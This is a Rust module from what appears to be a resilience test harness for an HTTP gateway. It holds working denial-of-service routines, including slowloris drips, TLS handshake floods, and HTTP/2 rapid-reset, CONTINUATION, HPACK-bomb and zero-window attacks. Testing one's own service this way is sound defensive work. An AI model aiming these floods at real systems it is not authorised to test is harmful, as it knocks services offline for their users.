//! Attacks by callers with and without a key. Each round uses one or more connections, ends with a
//! failure when the product closes them, and is then repeated.

use std::collections::VecDeque;
use std::io::{Read, Write};
use std::sync::atomic::{AtomicBool, Ordering};
use std::time::Duration;

use crate::client::{Stream, Target};
use crate::failure::Failure;
use crate::http2::{
    self, CONTINUATION, DATA, END_STREAM, HEADERS, LAST, NO_WINDOW, PING, PRIORITY, RST_STREAM,
    SETTINGS, UNKNOWN, WINDOW_UPDATE, frame, remembered, request,
};

pub(super) struct Attack {
    pub(super) name: &'static str,
    pub(super) on: Attacked,
    /// Number of concurrent attackers, one thread each.
    pub(super) attackers: usize,
    round: Round,
}

/// What an attacker does in one round.
#[derive(Clone, Copy)]
enum Round {
    Do(fn(&Target, usize, &AtomicBool) -> Result<(), Failure>),
    /// Sends frames of HTTP/2 for each stream, and reads nothing.
    Flood(fn(&Target, u32) -> Vec<u8>),
    /// Sends the first frames, and then the others for ever.
    Begun(fn(&Target) -> Vec<u8>, fn() -> Vec<u8>),
}

/// The service that an attack calls.
#[derive(Clone, Copy, PartialEq, Eq)]
pub(super) enum Attacked {
    /// That of the ordinary callers.
    TheirService,
    /// One of another account. It has no agent.
    AnotherAccount,
    /// As [`Self::AnotherAccount`], with a limit of one request a minute.
    AnotherAccountLimited,
}

impl Attack {
    pub(super) fn run(
        &self,
        target: &Target,
        number: usize,
        stop: &AtomicBool,
    ) -> Result<(), Failure> {
        match self.round {
            Round::Do(round) => round(target, number, stop),
            Round::Flood(next) => {
                let mut id = 1;
                send(speak_http2(target, &[])?, stop, || {
                    id += 2;
                    next(target, id - 2)
                })
            }
            Round::Begun(first, more) => {
                let mut stream = speak_http2(target, &[])?;
                stream.write_all(&first(target))?;
                send(stream, stop, more)
            }
        }
    }
}

const fn attack(name: &'static str, attackers: usize, round: Round) -> Attack {
    Attack {
        name,
        on: Attacked::TheirService,
        attackers,
        round,
    }
}

/// Callers of another account that are refused and ask again at once.
const fn refusals_of(name: &'static str, on: Attacked) -> Attack {
    Attack {
        on,
        ..attack(name, 4, Round::Do(refused_again))
    }
}

pub(super) const ATTACKS: &[Attack] = &[
    attack("slow-hello", 1, Round::Do(slow_hello)),
    attack("slow-heads", 1, Round::Do(slow_heads)),
    attack("slow-bodies", 1, Round::Do(slow_bodies)),
    attack(
        "slow-bodies-of-strangers",
        1,
        Round::Do(slow_bodies_of_strangers),
    ),
    attack("slow-readers", 8, Round::Do(slow_reader)),
    attack("idle-flood", 1, Round::Do(idle_flood)),
    attack("handshakes", 4, Round::Do(handshakes)),
    attack("abandoned-handshakes", 4, Round::Do(abandoned_handshakes)),
    attack("tiny-records", 4, Round::Do(tiny_records)),
    attack("key-updates", 4, Round::Do(key_updates)),
    attack("large-heads", 4, Round::Do(large_heads)),
    attack("refusals", 4, Round::Do(refusals)),
    refusals_of("refusals-without-agent", Attacked::AnotherAccount),
    refusals_of("refusals-by-limit", Attacked::AnotherAccountLimited),
    attack("h2-refusals", 4, Round::Flood(strangers_request)),
    attack("h2-rapid-reset", 4, Round::Flood(rapid_reset)),
    attack("h2-made-you-reset", 4, Round::Flood(made_you_reset)),
    attack("h2-too-many-streams", 4, Round::Do(too_many_streams)),
    attack("h2-no-window", 2, Round::Do(no_window)),
    attack(
        "h2-ping",
        4,
        Round::Flood(|_, _| frame(PING, 0, 0, &[7; 8])),
    ),
    attack(
        "h2-settings",
        4,
        Round::Flood(|_, _| frame(SETTINGS, 0, 0, &[])),
    ),
    attack("h2-window-updates", 4, Round::Flood(window_update)),
    attack("h2-priority", 4, Round::Flood(priority)),
    attack(
        "h2-unknown",
        4,
        Round::Flood(|_, _| frame(UNKNOWN, 0, 0, &[])),
    ),
    attack(
        "h2-empty-data",
        4,
        Round::Begun(upload, || frame(DATA, 0, 1, &[])),
    ),
    attack(
        "h2-tiny-data",
        4,
        Round::Begun(upload, || frame(DATA, 0, 1, b"x")),
    ),
    attack("h2-continuation", 4, Round::Begun(open_block, continuation)),
    attack("h2-hpack-bomb", 4, Round::Flood(hpack_bomb)),
    attack("h2-large-heads", 4, Round::Flood(large_block)),
];

/// Bytes of one write.
const CHUNK: usize = 32 * 1024;
/// Connections of one attacker that read each answer.
const ANSWERED: usize = 100;
const DRIP: Duration = Duration::from_millis(200);
/// Connections that one attacker has open before it abandons the oldest.
const ABANDONED_AFTER: usize = 200;
/// Pause between two connections of a flood, because handshakes are a separate attack.
const BREATH: Duration = Duration::from_millis(50);

fn headers(target: &Target, stream: u32, flags: u8) -> Vec<u8> {
    headers_of(target, "GET", "/hello", stream, flags)
}

fn headers_of(target: &Target, method: &str, path: &str, stream: u32, flags: u8) -> Vec<u8> {
    http2::headers(
        stream,
        flags,
        &request(method, &target.host, path, Some(&target.service_key)),
    )
}

fn strangers_request(target: &Target, stream: u32) -> Vec<u8> {
    http2::headers(stream, END_STREAM, &request("GET", &target.host, "/", None))
}

/// An HTTP/2 connection that has sent its preface.
fn speak_http2(target: &Target, settings: &[u8]) -> Result<Stream, Failure> {
    http2::begin(target.open(&[b"h2"])?, settings)
}

fn rapid_reset(target: &Target, id: u32) -> Vec<u8> {
    let reset = frame(RST_STREAM, 0, id, &[0, 0, 0, 8]);
    [headers(target, id, END_STREAM), reset].concat()
}

/// A WINDOW_UPDATE with increment 0 is a stream error (RFC 9113 §6.9).
fn made_you_reset(target: &Target, id: u32) -> Vec<u8> {
    let update = frame(WINDOW_UPDATE, 0, id, &[0; 4]);
    [headers(target, id, END_STREAM), update].concat()
}

fn window_update(_: &Target, _: u32) -> Vec<u8> {
    frame(WINDOW_UPDATE, 0, 0, &[0, 0, 0, 1])
}

fn priority(_: &Target, _: u32) -> Vec<u8> {
    frame(PRIORITY, 0, 1, &[0, 0, 0, 0, 1])
}

fn upload(target: &Target) -> Vec<u8> {
    headers_of(target, "POST", "/echo", 1, 0)
}

/// A header block that does not end.
fn open_block(_: &Target) -> Vec<u8> {
    frame(HEADERS, 0, 1, &[0x87])
}

fn continuation() -> Vec<u8> {
    frame(CONTINUATION, 0, 1, &[])
}

/// One long field, which is then named again and again.
fn hpack_bomb(_: &Target, id: u32) -> Vec<u8> {
    let mut block = remembered("x", &"y".repeat(3_900));
    block.resize(16_000, LAST);
    http2::headers(id, END_STREAM, &block)
}

fn large_block(target: &Target, id: u32) -> Vec<u8> {
    let mut block = request("GET", &target.host, "/", None);
    for _ in 0..12 {
        block.extend([0x00, 1, b'x', 127, 0xe9, 0x07]);
        block.extend(vec![b'y'; 127 + 0x69 + 7 * 128]);
    }
    http2::headers(id, END_STREAM, &block)
}

/// Requests that the gateway answers itself: those that reach the backend delay its other callers
/// by design.
fn too_many_streams(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let mut block = request("TRACE", &target.host, "/", Some(&target.service_key));
    block.extend(remembered("max-forwards", "0"));
    let mut id = 1;
    send(speak_http2(target, NO_WINDOW)?, stop, || {
        id += 2;
        http2::headers(id - 2, END_STREAM, &block)
    })
}

fn send(
    mut stream: Stream,
    stop: &AtomicBool,
    mut next: impl FnMut() -> Vec<u8>,
) -> Result<(), Failure> {
    // A write fails soon after the product stops reading.
    stream
        .sock
        .set_write_timeout(Some(Duration::from_secs(1)))?;
    let sent = (|| {
        while !stop.load(Ordering::Relaxed) {
            let mut chunk = Vec::with_capacity(2 * CHUNK);
            while chunk.len() < CHUNK {
                chunk.extend(next());
            }
            stream.write_all(&chunk)?;
            stream.flush()?;
        }
        Ok(())
    })();
    std::thread::sleep(BREATH);
    sent
}

/// Opens `count` connections with `open` and sends `drop_by_drop` on each, one byte at a time,
/// until all are closed.
fn drip<S: Write>(
    stop: &AtomicBool,
    count: usize,
    mut open: impl FnMut() -> Result<S, Failure>,
    drop_by_drop: &[u8],
) -> Result<(), Failure> {
    let mut streams = (0..count).map(|_| open()).collect::<Result<Vec<_>, _>>()?;
    for byte in drop_by_drop.iter().cycle() {
        streams.retain_mut(|stream| {
            stream
                .write_all(&[*byte])
                .and_then(|()| stream.flush())
                .is_ok()
        });
        if streams.is_empty() {
            return Err(Failure::new("all ended"));
        }
        std::thread::sleep(DRIP);
        if stop.load(Ordering::Relaxed) {
            break;
        }
    }
    Ok(())
}

fn slow_hello(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    drip(stop, 200, || target.socket(), &target.hello()?)
}

fn slow_heads(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    drip(
        stop,
        200,
        || target.open(&[b"http/1.1"]),
        b"GET /a HTTP/1.1x",
    )
}

/// Fewer than the agent has slots.
fn slow_bodies(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    drip(
        stop,
        100,
        || begin(target, &upload_head(target, true)),
        b"x",
    )
}

fn slow_bodies_of_strangers(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    drip(
        stop,
        200,
        || begin(target, &upload_head(target, false)),
        b"x",
    )
}

/// Head of a long upload, with or without the key.
fn upload_head(target: &Target, has_key: bool) -> String {
    let Target {
        host, service_key, ..
    } = target;
    let key = has_key.then(|| format!("X-Gw-Service-Key: {service_key}\r\n"));
    let key = key.unwrap_or_default();
    format!("POST /echo HTTP/1.1\r\nHost: {host}\r\n{key}Content-Length: 1000000\r\n\r\n")
}

fn begin(target: &Target, head: &str) -> Result<Stream, Failure> {
    let mut stream = target.open(&[b"http/1.1"])?;
    stream.write_all(head.as_bytes())?;
    stream.flush()?;
    Ok(stream)
}

fn slow_reader(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let key = &target.service_key;
    let head = format!(
        "GET /bytes/1000000000 HTTP/1.1\r\nHost: {}\r\nX-Gw-Service-Key: {key}\r\n\r\n",
        target.host
    );
    let mut stream = begin(target, &head)?;
    while !stop.load(Ordering::Relaxed) {
        stream.read_exact(&mut [0; 100])?;
        std::thread::sleep(DRIP);
    }
    Ok(())
}

fn idle_flood(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let mut streams = Vec::new();
    while streams.len() < 2000 && !stop.load(Ordering::Relaxed) {
        streams.push(target.open(&[b"http/1.1"])?);
    }
    while !stop.load(Ordering::Relaxed) {
        std::thread::sleep(DRIP);
    }
    Ok(())
}

fn handshakes(target: &Target, _: usize, _: &AtomicBool) -> Result<(), Failure> {
    target.open(&[b"http/1.1"]).map(drop)
}

/// Makes the product sign and agree on keys at the cost of one write.
fn abandoned_handshakes(target: &Target, number: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let hello = target.hello()?;
    // Kept until the answer has arrived, then closed with a reset: otherwise local ports run out.
    let mut waiting = VecDeque::with_capacity(ABANDONED_AFTER);
    while !stop.load(Ordering::Relaxed) {
        if waiting.len() == ABANDONED_AFTER {
            waiting.pop_front();
        }
        let mut socket = target.socket_from(1 + number)?;
        socket2::SockRef::from(&socket).set_linger(Some(Duration::ZERO))?;
        socket.write_all(&hello)?;
        waiting.push_back(socket);
    }
    Ok(())
}

/// A request with one byte per TLS record.
fn tiny_records(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let mut stream = begin(target, &upload_head(target, true))?;
    for _ in 0..100_000 {
        stream.conn.writer().write_all(b"x")?;
        if stop.load(Ordering::Relaxed) {
            break;
        }
        if stream.conn.writer().flush().is_ok() && stream.conn.wants_write() {
            stream.conn.write_tls(&mut stream.sock)?;
        }
    }
    Ok(())
}

fn key_updates(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let mut stream = target.open(&[b"http/1.1"])?;
    while !stop.load(Ordering::Relaxed) {
        stream.conn.refresh_traffic_keys()?;
        stream.flush()?;
    }
    Ok(())
}

fn large_heads(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let mut stream = begin(target, "GET / HTTP/1.1\r\n")?;
    let field = format!("X: {}\r\n", "y".repeat(1000)).repeat(16);
    while !stop.load(Ordering::Relaxed) {
        stream.write_all(field.as_bytes())?;
        stream.flush()?;
    }
    Ok(())
}

fn refusals(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let stream = target.open(&[b"http/1.1"])?;
    let request = format!("GET / HTTP/1.1\r\nHost: {}\r\n\r\n", target.host).into_bytes();
    send(stream, stop, || request.clone())
}

/// Requests with a key on many connections, each sent when the answer to the one before has
/// arrived.
fn refused_again(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let mut callers = Vec::with_capacity(ANSWERED);
    for _ in 0..ANSWERED {
        let mut caller = target.connect()?;
        caller.ask("/")?;
        callers.push(caller);
    }
    while !stop.load(Ordering::Relaxed) {
        for caller in &mut callers {
            caller.request("/")?;
        }
        for caller in &mut callers {
            caller.answer()?;
        }
    }
    Ok(())
}

/// As many requests as a connection may have, with a flow control window of 0 for the responses.
fn no_window(target: &Target, _: usize, stop: &AtomicBool) -> Result<(), Failure> {
    let mut stream = speak_http2(target, NO_WINDOW)?;
    // Together fewer than the agent has slots.
    for number in 0..50 {
        stream.write_all(&headers_of(
            target,
            "GET",
            "/bytes/1000000000",
            2 * number + 1,
            END_STREAM,
        ))?;
    }
    stream.flush()?;
    while !stop.load(Ordering::Relaxed) {
        std::thread::sleep(DRIP);
    }
    Ok(())
}
